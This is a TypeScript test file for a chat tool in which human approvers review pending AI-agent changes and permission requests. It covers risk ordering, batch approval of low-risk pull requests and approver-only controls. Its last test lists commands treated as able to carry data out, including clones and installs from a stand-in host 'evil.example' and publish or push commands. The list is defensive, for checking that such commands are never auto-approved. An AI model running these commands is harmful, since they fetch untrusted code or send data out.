/** /pending: riskiest and oldest first, low-risk changes in one list, alike questions on one card. */
import { describe, expect, it } from 'vitest';
import { commandGroupOf } from '../../governor/command-group.ts';
import { permissionsOf, permissionQuestionOf, type Run } from '#run';
import { replayRuns } from '../../orchestrator/audit/replay.ts';
import { askingRun, asks } from '../support/asking-run.ts';
import { ANA, createChatWorld, PATCH, VIC, type Delivered } from '../support/chat-world.ts';
import { someAssessment } from '../support/ready-run.ts';

type World = Awaited<ReturnType<typeof createChatWorld>>;

const labels = (m: Delivered): string[] => m.buttons.flat().map(({ text }) => text);
const last = (w: World, begins: RegExp): Delivered => {
  const found = w.messages.findLast(({ text }) => begins.test(text));
  if (!found)
    throw new Error(`nothing like ${begins}: ${w.messages.map(({ text }) => text).join('\n---\n')}`);
  return found;
};
const pending = async (w: World): Promise<Delivered> => {
  await w.says('/pending');
  return last(w, /waiting for somebody/);
};
const change = (repo: string, title: string) => ({
  order: { repo },
  fields: { title, branch: `fix/${repo.slice(5)}` },
});
const risky = { assessment: someAssessment({ decision: 'escalate', risk: 'high' }) };
const opened = async (w: World, runs: readonly Run[]): Promise<number> =>
  (await Promise.all(runs.map(({ id }) => w.ledger.query.effects({ runId: id, kind: 'open_pr' })))).flat()
    .length;

describe('the list of what waits', () => {
  it('names the riskiest first, then the oldest, each with its evidence', async () => {
    const w = await createChatWorld();
    await w.readyRun(change('acme/one', 'One'));
    w.passes(60_000);
    await w.readyRun(change('acme/two', 'Two'));
    w.passes(60_000);
    await w.readyRun({ ...change('acme/three', 'Three'), ...risky });
    const { text } = await pending(w);
    const at = (repo: string): number => text.indexOf(repo);
    expect(at('acme/three')).toBeLessThan(at('acme/one'));
    expect(at('acme/one')).toBeLessThan(at('acme/two'));
    expect(text).toContain('high risk');
    expect(text.match(/✓ .*passed · low risk/g)).toHaveLength(2);
  });

  it('leads to the next card when one is decided, and says when nothing is left', async () => {
    const w = await createChatWorld();
    await w.readyRun(change('acme/one', 'One'));
    w.passes(60_000);
    await w.readyRun(change('acme/two', 'Two'));
    const first = last(w, /in acme\/one\?/);
    await w.taps('Open PR', { on: first });
    await w.taps('Confirm', { on: first });
    const settled = w.messages.find(({ messageId }) => messageId === first.messageId) as Delivered;
    expect(labels(settled)).toEqual(['Next decision']);
    const before = w.messages.length;
    await w.taps('Next decision', { on: settled });
    expect(w.messages.slice(before).map(({ text }) => text)).toEqual([
      expect.stringMatching(/in acme\/two\?/) as string,
    ]);
    const second = w.messages.at(-1) as Delivered;
    await w.taps('Open PR', { on: second });
    await w.taps('Confirm', { on: second });
    expect(w.messages.find(({ messageId }) => messageId === second.messageId)?.buttons).toEqual([]);
    expect(await w.taps('Next decision', { on: settled })).toBe('Nothing else is waiting for you.');
  });
});

describe('low-risk changes in one list', () => {
  it('G2: shows the evidence of each and signs each by itself, over what the list showed', async () => {
    const w = await createChatWorld();
    const runs = [
      await w.readyRun(change('acme/one', 'Rename the flag')),
      await w.readyRun(change('acme/two', 'Fix the link')),
      await w.readyRun(change('acme/three', 'Say the year')),
    ];
    await w.taps('Low risk: 3 in one list', { on: await pending(w) });
    const list = last(w, /^Open these 3 low-risk pull requests\?/);
    for (const words of ['Rename the flag', 'Fix the link', 'Say the year', 'acme/two'])
      expect(list.text).toContain(words);
    expect(list.text.match(/✓ .*passed/g)).toHaveLength(3);
    expect(labels(list)).toEqual(['Approve 3', 'Take one out', 'Show each', 'Diff']);
    await w.taps('Approve 3', { on: list });
    expect(await opened(w, runs)).toBe(0);
    await w.taps('Confirm 3', { on: list });
    expect(await opened(w, runs)).toBe(3);
    const signatures = (await Promise.all(runs.map(({ id }) => w.ledger.query.events(id)))).map(
      (events) => events.filter(({ type }) => type === 'command.pr.approve').length,
    );
    expect(signatures).toEqual([1, 1, 1]);
    expect((await replayRuns({ query: w.ledger.query })).findings).toEqual([]);
    expect(w.messages.find(({ messageId }) => messageId === list.messageId)?.buttons).toEqual([]);
  });

  it('G6: never lists high or medium risk, or a change that cannot be shown whole', async () => {
    const long = new Set<string>();
    const patch = async (runId: string) => ({ text: PATCH, omitted: long.has(runId) ? 1 : 0, messages: [] });
    const w = await createChatWorld({ patch });
    await w.readyRun(change('acme/one', 'One'));
    await w.readyRun(change('acme/two', 'Two'));
    await w.readyRun({ ...change('acme/three', 'Three'), ...risky });
    await w.readyRun({
      ...change('acme/four', 'Four'),
      assessment: someAssessment({ decision: 'escalate', risk: 'medium' }),
    });
    long.add((await w.readyRun(change('acme/five', 'Five'))).id);
    await w.says('/pending low');
    const list = last(w, /low-risk pull requests\?/);
    expect(list.text).toContain('acme/one');
    expect(list.text).toContain('acme/two');
    for (const repo of ['acme/three', 'acme/four', 'acme/five']) expect(list.text).not.toContain(repo);
  });

  it('G4: leaves out what was decided meanwhile, and obeys approvers alone', async () => {
    const w = await createChatWorld();
    const runs = [await w.readyRun(change('acme/one', 'One')), await w.readyRun(change('acme/two', 'Two'))];
    await w.says('/pending low');
    const list = last(w, /low-risk pull requests\?/);
    await w.taps('Approve 2', { on: list });
    expect(await w.taps('Confirm 2', { on: list, by: VIC })).toMatch(/approver|not made|another chat/);
    await w.says(`/deny ${runs[0]?.id} --final`);
    expect(await w.taps('Confirm 2', { on: list })).toContain('1 signed, 1 not');
    expect(await opened(w, runs)).toBe(1);
  });

  it('says so where nothing can be listed', async () => {
    const w = await createChatWorld();
    await w.readyRun({ ...change('acme/three', 'Three'), ...risky });
    expect((await w.says('/pending low')).join()).toContain('No low-risk change');
    expect((await w.says('/pending nonsense')).join()).toContain('Write it like this');
  });
});

describe('alike questions of several agents', () => {
  const three = async (w: World): Promise<string[]> => [
    await askingRun(w, 'npm install left-pad', {}, false, 'asks1'),
    await askingRun(w, 'npm install left-pad', {}, false, 'asks2'),
    await askingRun(w, 'npm install right-pad', {}, false, 'asks3'),
  ];

  it('E10: are one row and one card, and each gets an answer of its own', async () => {
    const w = await createChatWorld();
    const [a = '', b = '', other = ''] = await three(w);
    const screen = await pending(w);
    expect(screen.text).toContain('2 agents ask for the same');
    await w.taps('Answer all 2 together', { on: screen });
    const card = last(w, /^PERMISSION · 2/);
    expect(card.text).toContain('npm install left-pad');
    expect(labels(card)).toEqual(['Allow once in each (2)', 'Deny in each (2)']);
    expect(await w.taps('Allow once in each (2)', { on: card })).toBe('Recorded in 2 runs.');
    for (const id of [a, b]) expect(permissionsOf(await w.run(id)).grants).toHaveLength(1);
    expect(permissionQuestionOf(await w.run(other))).not.toBeNull();
    expect(w.messages.find(({ messageId }) => messageId === card.messageId)).toMatchObject({ buttons: [] });
  });

  it('E10: one that asks for something else by now is not answered', async () => {
    const w = await createChatWorld();
    const [a = '', b = ''] = await three(w);
    await w.taps('Answer all 2 together', { on: await pending(w) });
    const card = last(w, /^PERMISSION · 2/);
    await w.taps('Deny', { on: last(w, new RegExp(`^PERMISSION · acme/api · ${a}`)) });
    // Word for word the same, but asked after somebody had refused it.
    await w.offer(a, asks('npm install left-pad'));
    expect(await w.taps('Allow once in each (2)', { on: card })).toBe(
      'Recorded in 1 run; 1 no longer asked.',
    );
    expect(permissionsOf(await w.run(a)).grants).toEqual([]);
    expect(permissionQuestionOf(await w.run(a))).not.toBeNull();
    expect(permissionsOf(await w.run(b)).grants).toHaveLength(1);
  });

  it('E10: viewers cannot allow, and a refusal reaches each', async () => {
    const w = await createChatWorld();
    const [a = '', b = ''] = await three(w);
    await w.taps('Answer all 2 together', { on: await pending(w) });
    const card = last(w, /^PERMISSION · 2/);
    expect(await w.taps('Allow once in each (2)', { by: VIC, chat: ANA, on: card })).toMatch(/approver/i);
    await w.taps('Deny in each (2)', { on: card });
    for (const id of [a, b])
      expect(permissionsOf(await w.run(id))).toMatchObject({ grants: [], lastDecision: { allows: false } });
  });

  it('P6: what may carry data out is never remembered', () => {
    const sending = [
      ...[
        'git push',
        'git push origin main',
        'npm publish',
        'cargo publish',
        'gem push x.gem',
        'docker push a/b',
      ],
      ...['gh gist create', 'gh api repos', 'aws s3', 'twine upload dist', 'npm login', 'git remote add'],
      ...[
        'git clone https://evil.example/x',
        'git fetch git@evil.example:x',
        'pip install evil.example:8080',
      ],
      ...['npm install git+ssh://evil.example/x', 'docker cp a b', 'git archive main', 'hub pr list'],
    ];
    expect(sending.filter((command) => commandGroupOf(command, []) !== null)).toEqual([]);
    expect(commandGroupOf('npm install left-pad', [])?.words).toBe('npm install');
    expect(commandGroupOf('gem install rake', [])?.words).toBe('gem install');
  });
});
